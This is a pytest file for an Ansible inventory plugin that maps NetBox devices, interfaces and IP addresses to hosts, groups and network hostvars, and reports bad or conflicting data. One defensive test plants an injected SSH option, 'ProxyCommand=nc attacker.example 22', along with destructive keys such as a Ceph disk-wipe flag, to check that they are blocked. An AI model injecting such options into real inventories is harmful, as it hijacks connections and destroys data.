"""The NetBox -> inventory model mapping and its validation, on plain NetBox-shaped dicts."""

from conftest import load_plugin_module

model_mod = load_plugin_module("plugins/module_utils/inventory_model.py")
Model = model_mod.Model

SITE = {"id": 1, "slug": "dc1", "name": "DC1"}
ROLE_HC = {"id": 1, "slug": "hc", "name": "HC"}
ROLE_CMP = {"id": 2, "slug": "cmp", "name": "CMP"}


def device(i, name, role=None, primary="10.0.0.{i}/24", **extra):
    d = {
        "id": i,
        "name": name,
        "site": SITE,
        "role": role or ROLE_HC,
        "tags": [{"slug": "allmende", "name": "allmende"}],
        "platform": {"slug": "debian-12"},
        "rack": {"id": 1, "name": "r1"},
        "custom_fields": {},
        "config_context": {"allmende_data_disks": ["/dev/sdb"]},
    }
    if primary:
        d["primary_ip4"] = {"id": 100 + i, "address": primary.format(i=i)}
    d.update(extra)
    return d


def iface(i, dev, name, type_="1000base-t", **extra):
    return {
        "id": i,
        "device": {"id": dev, "name": f"n{dev}"},
        "name": name,
        "type": {"value": type_},
        "enabled": True,
        "mtu": extra.pop("mtu", None),
        "mgmt_only": False,
        "mac_address": extra.pop("mac", None),
        **extra,
    }


def addr(i, address, iface_id, role=None):
    return {
        "id": i,
        "address": address,
        "assigned_object_type": "dcim.interface",
        "assigned_object_id": iface_id,
        "role": role,
    }


PREFIXES = [
    {"id": 1, "prefix": "10.0.0.0/24", "role": {"slug": "management"}},
    {"id": 2, "prefix": "10.20.0.0/24", "role": {"slug": "tunnel"}, "vlan": {"vid": 20}},
    {"id": 3, "prefix": "10.30.0.0/24", "role": {"slug": "storage"}},
]
GROUPS = {"hc": ["control", "compute", "storage"], "cmp": "compute"}


def good_site():
    devices = [device(1, "n1"), device(2, "n2", role=ROLE_CMP)]
    interfaces = [
        iface(11, 1, "eno1", mgmt_only=True, mac="0C:C4:7A:00:00:01"),
        iface(12, 1, "ens1f0", "25gbase-x-sfp28", mtu=9000, lag={"id": 14}),
        iface(13, 1, "ens1f1", "25gbase-x-sfp28", mtu=9000, lag={"id": 14}),
        iface(14, 1, "bond0", "lag", mtu=9000),
        iface(15, 1, "bond0.20", "virtual", parent={"id": 14}, untagged_vlan={"vid": 20}, mtu=9000),
        iface(16, 1, "br-ex", "bridge"),
        iface(17, 1, "ens2", "10gbase-x-sfpp", bridge={"id": 16}),
        iface(18, 1, "bond0.30", "virtual", parent={"id": 14}, untagged_vlan={"vid": 30}),
        iface(21, 2, "eno1", mgmt_only=True),
        iface(22, 2, "ens1f0.20", "virtual", parent={"id": 23}, untagged_vlan={"vid": 20}),
        iface(23, 2, "ens1f0", "10gbase-x-sfpp"),
    ]
    addresses = [
        addr(101, "10.0.0.1/24", 11),
        addr(102, "10.0.0.2/24", 21),
        addr(103, "10.20.0.1/24", 15),
        addr(104, "10.20.0.2/24", 22),
        addr(105, "10.30.0.1/24", 18),
    ]
    return devices, interfaces, addresses


def build(devices, interfaces, addresses, **kwargs):
    kwargs.setdefault("role_groups", GROUPS)
    return Model(devices, interfaces, addresses, PREFIXES, **kwargs).build()


def test_hosts_groups_and_hostvars():
    m = build(*good_site(), required_networks={"compute": ["tunnel"], "storage": ["storage"]})
    assert m.problems == []
    n1 = m.hosts["n1"]
    assert n1["groups"][:3] == ["control", "compute", "storage"]
    assert {"site_dc1", "rack_r1", "platform_debian_12", "tag_allmende"} <= set(n1["groups"])
    assert m.hosts["n2"]["groups"][0] == "compute"
    hv = n1["vars"]
    assert hv["ansible_host"] == "10.0.0.1"
    assert hv["allmende_data_disks"] == ["/dev/sdb"]  # config context flattened
    ifaces = {i["name"]: i for i in hv["allmende_interfaces"]}
    assert ifaces["bond0"]["type"] == "lag" and ifaces["bond0"]["lag_mode"] == "802.3ad"
    assert ifaces["ens1f0"]["lag"] == "bond0" and ifaces["ens1f0"]["mtu"] == 9000
    assert (ifaces["bond0.20"]["type"], ifaces["bond0.20"]["parent"], ifaces["bond0.20"]["vid"]) == (
        "vlan",
        "bond0",
        20,
    )
    assert ifaces["ens2"]["bridge"] == "br-ex" and ifaces["br-ex"]["type"] == "bridge"
    assert ifaces["eno1"]["mac"] == "0c:c4:7a:00:00:01" and ifaces["eno1"]["mgmt_only"] is True
    assert hv["allmende_networks"]["tunnel"] == {
        "interface": "bond0.20",
        "address": "10.20.0.1",
        "cidr": "10.20.0.1/24",
        "prefix": "10.20.0.0/24",
        "vlan": 20,
    }
    assert hv["allmende_networks"]["storage"]["interface"] == "bond0.30"
    assert hv["allmende_networks"]["management"]["address"] == "10.0.0.1"


def test_config_context_can_stay_nested():
    m = build(*good_site(), flatten_config_context=False)
    assert m.hosts["n1"]["vars"]["config_context"] == {"allmende_data_disks": ["/dev/sdb"]}
    assert "allmende_data_disks" not in m.hosts["n1"]["vars"]


def test_every_kind_of_bad_data_is_reported_at_once():
    devices, interfaces, addresses = good_site()
    devices.append(device(3, "n3", primary=None))  # no primary IP
    devices.append(device(4, "n1", site={"id": 2, "slug": "dc2"}))  # duplicate host name
    devices.append(device(5, "n5", role={"slug": "mystery"}))  # role without mapping
    interfaces += [
        iface(31, 3, "ens1f0", mtu=9000, lag={"id": 33}),
        iface(32, 3, "ens1f1", mtu=1500, lag={"id": 33}),  # LAG members differ in MTU
        iface(33, 3, "bond0", "lag"),
        iface(34, 3, "vlan40", "virtual", untagged_vlan={"vid": 40}),  # VLAN interface without parent
    ]
    addresses += [
        addr(106, "10.0.0.1/24", 31),  # duplicate of n1's address
        addr(107, "192.168.99.5/24", 32),  # outside every prefix
    ]
    m = build(devices, interfaces, addresses, required_networks={"storage": ["storage"]})
    text = "\n".join(m.problems)
    assert "device n3 (site dc1): primary_ip4: missing" in text
    assert "device n1 (site dc2): name: duplicate host name" in text
    assert "device n5 (site dc1): role: role 'mystery' has no group mapping" in text
    assert "interface bond0: mtu: LAG members differ in MTU: ens1f0=9000, ens1f1=1500" in text
    assert "interface vlan40: parent: VLAN interface without a parent interface" in text
    assert "ip address 10.0.0.1: address: assigned 2 times (n1/eno1, n3/ens1f0)" in text
    assert "192.168.99.5/24 is not inside any prefix" in text
    assert "device n3 (site dc1): interfaces: group storage needs an address in a 'storage' prefix" in text
    assert len(m.problems) >= 8


def test_shared_addresses_with_an_anycast_role_are_fine():
    devices, interfaces, addresses = good_site()
    addresses += [
        addr(120, "10.0.0.250/24", 11, role={"value": "vip"}),
        addr(121, "10.0.0.250/24", 21, role={"value": "vip"}),
    ]
    assert build(devices, interfaces, addresses).problems == []


def test_vlan_id_falls_back_to_the_name():
    assert model_mod.vlan_id({"name": "bond0.120"}) == 120
    assert model_mod.interface_type({"type": {"value": "virtual"}, "name": "lo1"}) == "virtual"
    assert model_mod.interface_type({"type": {"value": "virtual"}, "name": "bond0.5"}) == "vlan"


SECRET = "-o ProxyCommand=nc attacker.example 22"


def test_netbox_data_cannot_set_connection_or_destructive_variables():
    devices, interfaces, addresses = good_site()
    devices[0]["config_context"] = {
        "allmende_data_disks": ["/dev/sdb"],
        "ansible_ssh_common_args": SECRET,
        "ansible_host": "203.0.113.9",
        "ANSIBLE_BECOME_PASS": SECRET,
        "ceph_osd_wipe_foreign_devices": True,
        "ovn_central_action": "remove-member",
        "allmende_inventory_checked": True,
        "allmende_interfaces": [],
    }
    devices[1]["custom_fields"] = {"ansible_user": "root", "rack_unit": 7}
    m = build(devices, interfaces, addresses)
    n1, n2 = m.hosts["n1"]["vars"], m.hosts["n2"]["vars"]
    assert n1["ansible_host"] == "10.0.0.1"  # the plugin's own, from the primary IP
    for key in (
        "ansible_ssh_common_args",
        "ANSIBLE_BECOME_PASS",
        "ceph_osd_wipe_foreign_devices",
        "ovn_central_action",
        "allmende_inventory_checked",
    ):
        assert key not in n1
    assert n1["allmende_interfaces"] and n1["allmende_data_disks"] == ["/dev/sdb"]
    assert n2["allmende_custom_fields"] == {"rack_unit": 7}
    text = "\n".join(m.problems)
    assert SECRET not in text and "203.0.113.9" not in text
    for key in (
        "ansible_ssh_common_args",
        "ansible_host",
        "ANSIBLE_BECOME_PASS",
        "ceph_osd_wipe_foreign_devices",
        "ovn_central_action",
        "allmende_inventory_checked",
        "allmende_interfaces",
    ):
        assert f"device n1 (site dc1): config_context: key {key} may not come from NetBox" in text, key
    assert "device n2 (site dc1): custom_fields: key ansible_user may not come from NetBox" in text
    assert len(m.host_problems["n1"]) == 7 and len(m.host_problems["n2"]) == 1


def test_allowed_context_keys_let_chosen_keys_through_but_never_computed_ones():
    devices, interfaces, addresses = good_site()
    devices[0]["config_context"] = {
        "ansible_user": "deploy",
        "ceph_osd_wipe_foreign_devices": True,
        "allmende_networks": {},
        "ansible_port": 2222,
    }
    m = build(devices, interfaces, addresses, allowed_context_keys=["ansible_user", "ceph_osd_wipe_*"])
    hv = m.hosts["n1"]["vars"]
    assert hv["ansible_user"] == "deploy" and hv["ceph_osd_wipe_foreign_devices"] is True
    assert "ansible_port" not in hv and hv["allmende_networks"]["management"]["address"] == "10.0.0.1"
    assert sorted(p.split(": ")[2].split()[1] for p in m.problems) == ["allmende_networks", "ansible_port"]
    # nested (not flattened) config context: only the protected keys go, computed names are harmless there
    m = build(devices, interfaces, addresses, flatten_config_context=False)
    assert m.hosts["n1"]["vars"]["config_context"] == {"allmende_networks": {}}


def test_each_host_carries_only_its_own_problems():
    devices, interfaces, addresses = good_site()
    devices.append(device(3, "n3", primary=None))
    devices.append(device(4, None))  # no name: tied to no host
    devices.append(device(5, "n1", site={"id": 2, "slug": "dc2"}))  # duplicate name: n1's problem
    interfaces.append(iface(31, 3, "eth0"))
    addresses.append(addr(106, "10.0.0.2/24", 31))  # n2's address again: the first host by name, n2
    m = build(devices, interfaces, addresses)
    problems = {name: host["vars"]["allmende_inventory_problems"] for name, host in m.hosts.items()}
    assert problems["n3"] == ["device n3 (site dc1): primary_ip4: missing: the host has no address to reach it at"]
    assert problems["n1"] == ["device n1 (site dc2): name: duplicate host name (also device n1 (site dc1))"]
    assert problems["n2"] == ["ip address 10.0.0.2: address: assigned 2 times (n2/eno1, n3/eth0)"]
    assert m.global_problems == ["device id 4: name: missing: cannot be an inventory host"]
    assert m.problems == m.global_problems + problems["n1"] + problems["n2"] + problems["n3"]


def test_whole_inventory_checks_for_any_source():
    check = model_mod.inventory_problems
    hostvars = {
        "a": {"ansible_host": "192.0.2.1", "allmende_interfaces": [{"name": "v20", "type": "vlan", "vid": 20}]},
        "b": {
            "ansible_host": "192.0.2.1",
            "allmende_inventory_problems": ["device b: role: unmapped"],
            "allmende_interfaces": [{"name": "v30", "type": "vlan"}],
        },  # checked by the plugin already
    }
    found = check(hostvars, {"control": set()}, ["device id 9: name: missing"])
    assert found == [
        "device id 9: name: missing",
        "device b: role: unmapped",
        "host a interface v20: parent: VLAN interface without a parent interface",
        "hosts a, b: ansible_host: all use 192.0.2.1",
        "inventory: group control: no hosts (map a device role to it)",
    ]
    hostvars["b"]["ansible_host"] = "192.0.2.2"
    hostvars["a"]["allmende_interfaces"][0]["parent"] = "eth0"
    hostvars["a"]["allmende_interfaces"].append({"name": "eth0", "type": "physical"})
    del hostvars["b"]["allmende_inventory_problems"]
    assert check(hostvars, {"control": {"a"}}) == [
        "host b interface v30: parent: VLAN interface without a parent interface",
        "host b interface v30: untagged_vlan: VLAN interface without a VLAN id",
    ]
    assert check({}, {"control": set()}) == ["inventory: hosts: none (check the inventory source and its filters)"]
